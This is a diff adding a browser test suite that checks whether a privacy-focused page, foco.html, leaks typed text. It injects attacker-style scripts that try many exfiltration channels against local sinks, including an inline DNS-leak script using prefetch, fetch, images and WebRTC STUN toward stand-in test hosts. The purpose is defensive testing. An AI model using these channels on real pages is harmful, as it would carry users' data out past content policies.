@@ -1,0 +1,157 @@
+// Nothing gets out. A script of an attacker, put into the page past its policy by the browser's own remote control, tries
+// every channel of channels.mjs; a listener counts what arrives. A page without policy and lockdown proves that each channel can
+// carry something in that engine. Run as root this happens in a network of its own, where questions for names are watched.
+import assert from "node:assert/strict";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { describe, test } from "node:test";
+import { pathToFileURL } from "node:url";
+import { SINGLE, SITE, demo } from "./artefacts.mjs";
+import { needs } from "./browsers.mjs";
+import { CHANNELS, LEAVING } from "./channels.mjs";
+import { ENGINES, drive, opened, paste, sleep, walk } from "./drive.mjs";
+import { serve } from "./server.mjs";
+import { listen, listenForNames } from "./sink.mjs";
+
+const MARK = "zqxjkvbn7741";
+const TEXT = `${demo}\n${MARK}`;
+const CONTROL = "<!doctype html><meta charset='utf-8'><title>control</title><body><textarea></textarea>";
+
+/** How many channels the control page must carry for the test not to be blind, by engine. */
+const SEEING = { chromium: 28, firefox: 28, webkit: 28 };
+
+/** What stays possible for code that already runs in the page, as docs/privacy.md says: where the browser has no
+ *  Navigation API, it can send its own page elsewhere. */
+const POSSIBLE = {
+  chromium: [],
+  firefox: [],
+  webkit: ["location", "location-assign", "meta-refresh"],
+};
+
+const inOwnNetwork = process.env.FOCO_OWN_NETWORK === "1";
+
+/** Tries every channel on a page and tells which ones arrived. */
+async function attack(browser, address, sink, ready, leaving = LEAVING) {
+  sink.forget();
+  const carry = (name) => `${sink.address}/${name}?m=${MARK}`;
+  const call = (body) => `try { const [to, text, udp] = arguments; ${body} } catch { /* refused */ }`;
+  const page = await browser.visit(address);
+  await ready(page);
+  await paste(page, TEXT);
+  for (const [name, body] of Object.entries(CHANNELS)) await page.run(call(body), carry(name), MARK, await sink.datagrams(name));
+  await sleep(2500);
+  await page.close();
+  for (const [name, body] of Object.entries(leaving)) {
+    const page = await browser.visit(address);
+    await ready(page);
+    await page.run(call(body), carry(name), MARK, 9).catch(() => {});
+    await sleep(500);
+    await page.close().catch(() => {});
+  }
+  return sink.arrived();
+}
+
+for (const engine of ENGINES) {
+  describe(`${engine}: leaks`, needs(engine), () => {
+    test("foco.html lets nothing out", async (t) => {
+      const folder = mkdtempSync(join(tmpdir(), "foco-leak-"));
+      writeFileSync(join(folder, "control.html"), CONTROL);
+      const sink = await listen(), site = await serve(folder), single = await serve(join(SITE, ".."));
+      const browser = await drive(engine);
+      try {
+        const control = await attack(browser, pathToFileURL(join(folder, "control.html")).href, sink, () => {});
+        t.diagnostic(`${engine}: a page without policy leaks through ${control.length} channels: ${control.join(", ")}`);
+        assert.ok(control.length >= SEEING[engine], `the control leaks through ${control.length} channels only`);
+        const controlOverHttp = await attack(browser, `${site.address}control.html`, sink, () => {}, {});
+        assert.ok(controlOverHttp.length >= SEEING[engine], `over http the control leaks through ${controlOverHttp.length}`);
+        for (const address of [SINGLE, `${single.address}foco.html`]) {
+          const arrived = await attack(browser, address, sink, opened);
+          t.diagnostic(`${engine}: ${address.split(":")[0]}: foco.html lets through: ${arrived.join(", ") || "nothing"}`);
+          assert.deepEqual(arrived, POSSIBLE[engine].filter((name) => control.includes(name)).sort());
+        }
+      } finally {
+        await browser.close();
+        await Promise.all([sink.close(), site.close(), single.close()]);
+        rmSync(folder, { recursive: true });
+      }
+    });
+
+    test("the normal walk of foco.html asks for nothing", async () => {
+      const browser = await drive(engine);
+      const single = await serve(join(SITE, ".."));
+      try {
+        for (const address of [SINGLE, `${single.address}foco.html`]) {
+          const page = await browser.visit(address);
+          await opened(page);
+          await walk(page, TEXT);
+          assert.deepEqual(page.asked.filter((url) => url !== address && !/^(data|blob):/.test(url)), []);
+          await page.close();
+        }
+        assert.deepEqual(single.requests.filter((url) => url !== "/foco.html" && url !== "/favicon.ico"), []);
+      } finally {
+        await browser.close();
+        await single.close();
+      }
+    });
+
+    test("site/ asks for nothing once it is loaded", async () => {
+      const browser = await drive(engine);
+      const sink = await listen(), site = await serve(SITE, "/some/where/");
+      try {
+        const page = await browser.visit(site.address);
+        await opened(page);
+        await sleep(2000);
+        const loaded = site.requests.length;
+        await walk(page, TEXT);
+        assert.deepEqual(site.requests.slice(loaded), []);
+        assert.ok(site.requests.every((url) => url.startsWith("/some/where/") || url === "/favicon.ico"), site.requests.join(" "));
+        await page.close();
+        const arrived = await attack(browser, site.address, sink, async (page) => { await opened(page); await sleep(300); });
+        assert.deepEqual(arrived.filter((name) => !POSSIBLE[engine].includes(name)), []);
+        assert.ok(!site.requests.some((url) => url.includes(MARK)), site.requests.join(" "));
+      } finally {
+        await browser.close();
+        await Promise.all([sink.close(), site.close()]);
+      }
+    });
+
+    test("no name is asked for", inOwnNetwork ? {} : { skip: "needs a network of its own (root on Linux)" }, async (t) => {
+      const folder = mkdtempSync(join(tmpdir(), "foco-names-"));
+      writeFileSync(join(folder, "control.html"), CONTROL);
+      const resolver = await listenForNames();
+      const browser = await drive(engine);
+      const ask = `
+        const [name] = arguments;
+        const put = (rel, href) => { try { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); } catch {} };
+        put("dns-prefetch", "//a." + name); put("preconnect", "http://b." + name); put("prefetch", "http://c." + name + "/");
+        try { const a = document.createElement("a"); a.href = "http://d." + name + "/"; a.textContent = "x"; document.body.append(a); } catch {}
+        try { new Image().src = "http://e." + name + "/"; } catch {}
+        try { fetch("http://f." + name + "/").catch(() => {}); } catch {}
+        try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:g." + name }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}`;
+      const named = (what) => [...new Set(resolver.names.map((n) => n.toLowerCase()).filter((n) => n.endsWith(what)))];
+      try {
+        const control = await browser.visit(pathToFileURL(join(folder, "control.html")).href);
+        await control.run(ask, `${MARK}.control.test`);
+        await sleep(2500);
+        await control.close();
+        const asked = named("control.test");
+        t.diagnostic(`${engine}: a page without policy asks for ${asked.map((n) => n.split(".")[0]).sort().join(" ")}`);
+        assert.ok(asked.length > 0, "the control page asks for no name: the test is blind");
+        const page = await browser.visit(SINGLE);
+        await opened(page);
+        await paste(page, TEXT);
+        await page.run(ask, `${MARK}.foco.test`);
+        await walk(page, TEXT);
+        await sleep(2500);
+        await page.close();
+        t.diagnostic(`${engine}: foco.html lets a script ask for ${named("foco.test").map((n) => n.split(".")[0]).sort().join(" ") || "nothing"}`);
+        assert.deepEqual(named("foco.test"), []);
+      } finally {
+        await browser.close();
+        resolver.close();
+        rmSync(folder, { recursive: true });
+      }
+    });
+  });
+}
